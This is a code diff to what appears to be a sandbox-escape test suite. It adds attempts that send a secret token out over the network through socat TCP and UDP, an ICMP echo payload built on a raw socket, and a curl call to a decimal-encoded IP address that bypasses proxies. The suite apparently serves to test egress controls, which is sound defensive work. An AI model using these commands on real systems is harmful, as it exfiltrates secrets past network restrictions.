@@ -1,4 +1,4 @@
-import { type Attempt, python, tokenReceived } from '../attempt.ts';
+import { type Attempt, python, tokenLooted, tokenReceived } from '../attempt.ts';
 
 const send = (name: string, script: string, onlyAsRoot = false): Attempt => ({
   name,
@@ -48,6 +48,27 @@ export const directNetwork: readonly Attempt[] = [
       "import socket, time; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(bytes([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + bytes([len(E['TOKEN'])]) + E['TOKEN'].encode() + bytes([0, 0, 16, 0, 1]), (E['OWN'], int(E['UDP']))); time.sleep(.1)",
     ),
   ),
+  send('socat', 'printf %s "$TOKEN" | socat -T 3 - "TCP:$OWN:$PORT,connect-timeout=3"'),
+  send('socat-datagram', 'printf %s "$TOKEN" | socat -T 1 - "UDP:$OWN:$UDP"'),
+  {
+    // The echo comes back with what was sent; nobody but the other side could have sent it.
+    ...send(
+      'icmp',
+      python(`
+import socket, struct
+t = E['TOKEN'].encode(); s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(3)
+def summed(b):
+    b += b'\\0' * (len(b) % 2); n = sum(struct.unpack('!%dH' % (len(b) // 2), b))
+    n = (n >> 16) + (n & 65535); return ~(n + (n >> 16)) & 65535
+ask = lambda c: struct.pack('!BBHHH', 8, 0, c, 7, 1) + t
+s.sendto(ask(summed(ask(0))), (E['OWN'], 0))
+while True:
+    d, _ = s.recvfrom(999)
+    if d[20] == 0 and t in d: print(E['TOKEN']); break`),
+      true,
+    ),
+    escaped: tokenLooted,
+  },
   send('address-in-decimal', 'curl -s -m 3 --noproxy "*" "http://2130706433:$PORT/$TOKEN"'),
   send(
     'node',
